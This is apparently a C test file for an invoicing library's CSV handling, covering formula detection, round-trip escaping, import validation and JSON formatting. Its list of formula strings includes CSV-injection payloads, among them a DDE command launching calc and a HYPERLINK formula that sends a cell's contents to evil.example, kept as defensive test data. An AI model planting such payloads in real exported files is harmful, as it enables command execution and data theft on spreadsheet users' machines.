/* tests/document/test-document-tables.c — CSV written and read, spreadsheets' formulas, and the import: what becomes of
 * a file, and every reason why a row does not. Layer: tests. */
#include "cobro-csv.h"
#include "cobro-error.h"
#include "cobro-import.h"
#include "cobro-json-text.h"

#include <string.h>

#define NOW (G_GINT64_CONSTANT (1795255200) * COBRO_SECOND) /* 2026-11-21T10:00:00Z */

/* What spreadsheets run, and what only looks like it. */
static const char *const formulas[] = {
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "'=1",
  "\"=1\"",
  "=cmd|' /C calc'!A0",
  "＝1+1",
  "−2+3",
  "%0A=1",
  "|calc",
  "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
  "'+34 600",
  "''=1",
};
static const char *const plain[] = { "",           "Ana",      "a=b",     "1-2",           "Zoë \"Z\" Müller",
                                     "two\nlines", "a,b;c\td", "O'Brien", "'s Gravenhage", "ends with blank",
                                     "日本",       "5 % off" };

static void
test_formulas (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (formulas); i++)
    g_assert_true (cobro_csv_is_formula (formulas[i]));
  for (gsize i = 0; i < G_N_ELEMENTS (plain); i++)
    g_assert_false (cobro_csv_is_formula (plain[i]));
}

/* No cell begins with what a spreadsheet runs, and reading gives back what was written (but for white space around). */
static void
test_round_trip (void)
{
  static const char *const names[] = { "a", "b", NULL };
  g_autoptr (CobroCsvWriter) writer = cobro_csv_writer_new ();
  g_autoptr (GBytes) bytes = NULL;
  g_autoptr (CobroCsv) csv = NULL;
  g_autoptr (GError) error = NULL;
  const gsize n = G_N_ELEMENTS (formulas) + G_N_ELEMENTS (plain);

  cobro_csv_put_header (writer, names);
  for (gsize i = 0; i < n; i++)
    {
      cobro_csv_put_plain (writer, "x");
      cobro_csv_put_text (writer, i < G_N_ELEMENTS (formulas) ? formulas[i] : plain[i - G_N_ELEMENTS (formulas)]);
      cobro_csv_end_row (writer);
    }
  bytes = cobro_csv_writer_take (writer);
  csv = cobro_csv_parse (bytes, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (csv->rows->len, ==, n + 1);
  for (gsize i = 0; i < n; i++)
    {
      const char *written = i < G_N_ELEMENTS (formulas) ? formulas[i] : plain[i - G_N_ELEMENTS (formulas)];
      g_auto (GStrv) lines = g_strsplit (written, "\r", -1); /* line ends are LF inside */
      g_autofree char *expected = g_strjoinv ("\n", lines);

      g_assert_cmpstr (((char **)csv->rows->pdata[i + 1])[1], ==, expected);
    }
}

typedef struct
{
  const char *what, *file;
  gsize n;           /* bytes; 0: strlen */
  const char *cells; /* rows by '/', cells by '|'; NULL: refused */
  const char *reason;
} Reading;

static const Reading readings[] = {
  { "commas", "a,b\r\n1,2\r\n", 0, "a|b/1|2", NULL },
  { "semicolons", "a;b\n1,5;2\n", 0, "a|b/1,5|2", NULL },
  { "tabs", "a\tb\n1\t2", 0, "a|b/1|2", NULL },
  { "a mark",
    "\xEF\xBB\xBF"
    "a,b\n1,2\n",
    0, "a|b/1|2", NULL },
  { "old line ends", "a,b\r1,2\r", 0, "a|b/1|2", NULL },
  { "quotes", "a,b\n\"1,\"\"x\"\"\",\"2\"\n", 0, "a|b/1,\"x\"|2", NULL },
  { "empty lines and short rows", "\n\na,b,c\n\n1\n,,\n", 0, "a|b|c/1||", NULL },
  { "Windows-1252", "a\nZo\xEB\n", 0, "a/Zoë", NULL },
  { "UTF-16",
    "\xFF\xFE"
    "a\0\n\0\xEB\0\n\0",
    10, "a/ë", NULL },
  { "more cells than names", "a,b\n1,2,3\n", 0, NULL, "line 2: has 3 cells, but there are 2 columns" },
  { "an open quote", "a,b\n1,\"2\n3\n", 0, NULL, "line 2: a quote is opened and never closed" },
  { "text behind a quote", "a,b\n\"1\"x,2\n", 0, NULL, "line 2: something stands behind a closing quote" },
  { "nothing", "\n \n", 0, NULL, "is empty" },
  { "no text", "a\0b", 3, NULL, "is no text: save the table as CSV (UTF-8)" },
};

static void
test_reading (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (readings); i++)
    {
      const Reading *reading = &readings[i];
      g_autoptr (GBytes) bytes =
        g_bytes_new_static (reading->file, reading->n != 0 ? reading->n : strlen (reading->file));
      g_autoptr (GError) error = NULL;
      g_autoptr (CobroCsv) csv = cobro_csv_parse (bytes, &error);
      g_autoptr (GString) cells = g_string_new (NULL);

      g_test_message ("%s", reading->what);
      if (reading->cells == NULL)
        {
          g_assert_error (error, COBRO_ERROR, COBRO_ERROR_INVALID);
          g_assert_cmpstr (error->message, ==, reading->reason);
          continue;
        }
      g_assert_no_error (error);
      for (guint row = 0; row < csv->rows->len; row++)
        {
          g_autofree char *joined = g_strjoinv ("|", csv->rows->pdata[row]);

          g_string_append_printf (cells, "%s%s", row > 0 ? "/" : "", joined);
        }
      g_assert_cmpstr (cells->str, ==, reading->cells);
    }
}

/* ── Import ─────────────────────────────────────────────────────────────────────────────────────────────────────── */

static CobroMerchant *
shop (const char *country)
{
  CobroMerchant *merchant = cobro_merchant_new ();

  cobro_link_set_text (&merchant->name, "The Vacuum Shop");
  cobro_link_set_text (&merchant->currency, "AUD");
  cobro_link_set_text (&merchant->time_zone, "Australia/Sydney");
  cobro_link_set_text (&merchant->seller.address.country, country);
  g_ptr_array_add (merchant->taxes, cobro_tax_rate_new ("GST", COBRO_TAX_STANDARD, 10 * COBRO_DECIMAL_ONE, TRUE));
  return merchant;
}

static CobroImport *
import_text (CobroImportKind kind, const char *text, const char *country, GError **error)
{
  g_autoptr (CobroMerchant) merchant = shop (country);
  g_autoptr (CobroLocale) locale = cobro_locale_new ("en", NULL);
  g_autoptr (GBytes) bytes = g_bytes_new (text, strlen (text));
  const CobroImportSetup setup = { .merchant = merchant, .locale = locale, .now = NOW };

  return cobro_import_read (kind, bytes, &setup, error);
}

static void
assert_no_problems (const CobroImport *import)
{
  g_assert_nonnull (import);
  for (guint i = 0; i < import->problems->len; i++)
    {
      const CobroImportProblem *problem = import->problems->pdata[i];

      g_test_message ("line %u, %s: %s", problem->line, problem->column, problem->reason);
    }
  g_assert_cmpuint (import->n_problems, ==, 0);
}

static void
test_invoices (void)
{
  static const char text[] =
    "Number,Date,Due date,Customer,E-Mail,Description,Qty,Unit price,VAT rate,Total,Colour\r\n"
    "502,2026-11-01,2026-12-01,The Vacuum Shop,jo@vacuum.example,Repair,1,75.00,10,82.50,red\r\n"
    "503,1.11.2026,,Zora,,Filter,2,\"1,000.00\",10,\"2,210.50\",\r\n"
    "503,,,Zora,,\"Bag\nsmall\",1,0.0075,10%,,\r\n"
    "503,,,,,Stamp,1,10.49,0,,\r\n"
    ",,,Ben,,Draft of something,1,5,,,\r\n";
  g_autoptr (GError) error = NULL;
  g_autoptr (CobroImport) import = import_text (COBRO_IMPORT_INVOICES, text, "AU", &error);
  const CobroInvoice *first, *second, *third;

  g_assert_no_error (error);
  assert_no_problems (import);
  g_assert_cmpuint (import->items->len, ==, 3);
  g_assert_cmpuint (import->n_rows, ==, 5);
  g_assert_cmpuint (import->ignored->len, ==, 1);
  g_assert_cmpstr (import->ignored->pdata[0], ==, "Colour");
  first = import->items->pdata[0];
  second = import->items->pdata[1];
  third = import->items->pdata[2];
  g_assert_cmpstr (first->number, ==, "502");
  g_assert_cmpstr (first->due_date, ==, "2026-12-01");
  g_assert_cmpstr (first->buyer.email, ==, "jo@vacuum.example");
  g_assert_cmpint (cobro_money_minor (first->totals->total), ==, 8250);
  g_assert_cmpstr (second->issue_date, ==, "2026-11-01");
  g_assert_cmpuint (second->lines->len, ==, 3);
  g_assert_cmpstr (((CobroInvoiceLine *)second->lines->pdata[1])->description, ==, "Bag\nsmall");
  g_assert_cmpint (((CobroInvoiceLine *)second->lines->pdata[1])->unit_price, ==, 7500);
  g_assert_cmpstr (((CobroInvoiceLine *)second->lines->pdata[1])->tax_name, ==, "GST");
  g_assert_cmpint (((CobroInvoiceLine *)second->lines->pdata[2])->tax_category, ==, COBRO_TAX_ZERO);
  g_assert_cmpstr (third->number, ==, "");
  g_assert_cmpuint (g_array_index (import->lines, guint, 2), ==, 7);
}

typedef struct
{
  CobroImportKind kind;
  const char *country, *text;
  guint line;
  const char *column, *reason;
} Wrong;

#define HEAD "number,date,customer,description,unit price,tax rate,total,country,tax number\n"
static const Wrong wrong[] = {
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-02-30,A,x,1,,,,\n", 2, "date", "“2026-02-30” must be a date" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,,A,x,1,,,,\n", 2, "date", "is required beside a number" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-23,A,x,1,,,,\n", 2, "date", "lies in the future" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,,x,1,,,,\n", 2, "customer", "is required" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,one,,,,\n", 2, "unit price", "must be a number" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,,,,,\n", 2, "unit price", "is required" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,1,101,,,\n", 2, "tax rate", "must be" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,75,10,82.51,,\n", 2, "total",
    "“82.51” is not what the lines come to: 82.50" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,1,,,Spain,\n", 2, "country", "two capital letters" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,1,,,AU,123\n", 2, "tax number", "51 824 753 556" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,1,,,,\n1,2026-11-02,A,y,1,,,,\n", 3, "date",
    "is not what line 2 says" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,1,,,,\n2,2026-11-01,A,x,1,,,,\n1,2026-11-01,A,y,1,,,,\n", 4,
    "number", "stands on line 2 already" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,x,0,,,,\n", 2, "total", "must be above zero" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,,5,,,,\n", 2, "description", "" },
  { COBRO_IMPORT_INVOICES, "AU", HEAD "1,2026-11-01,A,\"x\xE2\x80\xAEy\",5,,,,\n", 2, "description", "direction" },
  { COBRO_IMPORT_CUSTOMERS, "AU", "name,email\nAna,ana\n", 2, "email", "must be an e-mail address" },
  { COBRO_IMPORT_CUSTOMERS, "AU", "name,email\nAna,a@b.example\nBen,\nAna,a@b.example\n", 4, "name",
    "stands on line 2 already" },
  { COBRO_IMPORT_CUSTOMERS, "AU", "name,company\n,perhaps\n", 2, "company", "must be yes or no" },
  { COBRO_IMPORT_PRODUCTS, "AU", "name,unit price,code\nA,1,x\nB,2,x\n", 3, "code", "stands on line 2 already" },
  { COBRO_IMPORT_PRODUCTS, "AU", "name,unit price,currency\nA,1,QQQ\n", 2, "currency", "is no currency" },
  { COBRO_IMPORT_PRODUCTS, "AU", "name,unit price\n,1\n", 2, "name", "must not be empty" },
  { COBRO_IMPORT_PRODUCTS, "AU", "name,unit price\nA,-1\n", 2, "unit price", "" },
};

static void
test_reasons (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (wrong); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (CobroImport) import = import_text (wrong[i].kind, wrong[i].text, wrong[i].country, &error);
      gboolean found = FALSE;

      g_test_message ("%s", wrong[i].text);
      g_assert_no_error (error);
      for (guint n = 0; n < import->problems->len; n++)
        {
          const CobroImportProblem *problem = import->problems->pdata[n];

          g_test_message ("line %u, %s: %s", problem->line, problem->column, problem->reason);
          found = found || (problem->line == wrong[i].line && g_str_equal (problem->column, wrong[i].column) &&
                            strstr (problem->reason, wrong[i].reason) != NULL);
        }
      g_assert_true (found);
    }
}

/* 3/4/2026 is April, but in the United States March; a number that reads in two ways is not guessed. */
static void
test_doubtful (void)
{
  static const char text[] = "customer;description;unit price;number;date\nA;x;5;1;3/4/2026\n";
  g_autoptr (CobroImport) here = import_text (COBRO_IMPORT_INVOICES, text, "AU", NULL);
  g_autoptr (CobroImport) there = import_text (COBRO_IMPORT_INVOICES, text, "US", NULL);
  g_autoptr (CobroImport) number = import_text (COBRO_IMPORT_PRODUCTS, "name;unit price\nA;1.234\n", "AU", NULL);
  g_autoptr (CobroImport) missing = NULL;

  assert_no_problems (here);
  g_assert_cmpstr (((CobroInvoice *)here->items->pdata[0])->issue_date, ==, "2026-04-03");
  g_assert_cmpstr (((CobroInvoice *)there->items->pdata[0])->issue_date, ==, "2026-03-04");
  g_assert_cmpuint (number->n_problems, ==, 1);
  g_assert_nonnull (strstr (((CobroImportProblem *)number->problems->pdata[0])->reason, "two ways"));
  missing = import_text (COBRO_IMPORT_INVOICES, "customer,number\nA,1\n", "AU", NULL);
  g_assert_cmpuint (missing->n_problems, ==, 2);
  g_assert_cmpuint (missing->items->len, ==, 0);
  g_assert_cmpstr (((CobroImportProblem *)missing->problems->pdata[0])->reason, ==, "there is no column “description”");
}

/* What we hand out as a sample is taken back without a word; so is every customer and product, formulas and all. */
static void
test_samples (void)
{
  for (int kind = COBRO_IMPORT_INVOICES; kind <= (int)COBRO_IMPORT_LINKS; kind++)
    {
      g_autoptr (GBytes) sample = cobro_import_sample ((CobroImportKind)kind);
      g_autofree char *text = g_strndup (g_bytes_get_data (sample, NULL), g_bytes_get_size (sample));
      g_autoptr (CobroImport) import = import_text ((CobroImportKind)kind, text, "AU", NULL);
      g_autoptr (GPtrArray) columns = cobro_import_columns ((CobroImportKind)kind);

      assert_no_problems (import);
      g_assert_cmpuint (import->items->len, ==, 1);
      g_assert_cmpuint (import->ignored->len, ==, 0);
      g_assert_cmpuint (cobro_import_n_needed ((CobroImportKind)kind), <, columns->len);
    }
}

static void
test_export (void)
{
  g_autoptr (GPtrArray) customers = g_ptr_array_new_with_free_func ((GDestroyNotify)cobro_customer_unref);
  g_autoptr (GBytes) bytes = NULL;
  g_autofree char *text = NULL;
  g_autoptr (CobroImport) import = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (formulas); i++)
    if (strpbrk (formulas[i], "\r\n\t") == NULL && formulas[i][0] != ' ')
      {
        CobroCustomer *customer = cobro_customer_new ();

        cobro_link_set_text (&customer->party.name, formulas[i]);
        cobro_link_set_text (&customer->notes, "=1\n+2");
        customer->is_company = i % 2 == 0;
        g_ptr_array_add (customers, customer);
      }
  bytes = cobro_export_customers (customers);
  text = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  import = import_text (COBRO_IMPORT_CUSTOMERS, text, "AU", NULL);
  assert_no_problems (import);
  g_assert_cmpuint (import->items->len, ==, customers->len);
  for (guint i = 0; i < customers->len; i++)
    {
      const CobroCustomer *from = customers->pdata[i], *to = import->items->pdata[i];

      g_assert_true (cobro_party_equal (&from->party, &to->party));
      g_assert_cmpstr (from->notes, ==, to->notes);
      g_assert_cmpint (from->is_company, ==, to->is_company);
    }
}

/* JSON for people: a member a line, and what stands in strings is not touched. */
static void
test_json (void)
{
  static const struct
  {
    const char *json, *text;
  } cases[] = {
    { "{}", "{}" },
    { "[ ]", "[]" },
    { "{\"a\":1}", "{\n  \"a\": 1\n}" },
    { "{\"a\":[1,{\"b\":null}],\"c\":{}}",
      "{\n  \"a\": [\n    1,\n    {\n      \"b\": null\n    }\n  ],\n  \"c\": {}\n}" },
    { "{\"a\":\"{[,:]}\\\"\\\\\"}", "{\n  \"a\": \"{[,:]}\\\"\\\\\"\n}" },
    { "{\"a\" : \"b\" ,\n \"c\":2}", "{\n  \"a\": \"b\",\n  \"c\": 2\n}" },
    { "}}\"open", "\n}\n}\"open" }, /* not JSON: all of it comes out */
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text = cobro_json_text (cases[i].json);

      g_assert_cmpstr (text, ==, cases[i].text);
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/document/tables/formulas", test_formulas);
  g_test_add_func ("/document/tables/round-trip", test_round_trip);
  g_test_add_func ("/document/tables/reading", test_reading);
  g_test_add_func ("/document/tables/invoices", test_invoices);
  g_test_add_func ("/document/tables/reasons", test_reasons);
  g_test_add_func ("/document/tables/doubtful", test_doubtful);
  g_test_add_func ("/document/tables/samples", test_samples);
  g_test_add_func ("/document/tables/export", test_export);
  g_test_add_func ("/document/tables/json", test_json);
  return g_test_run ();
}
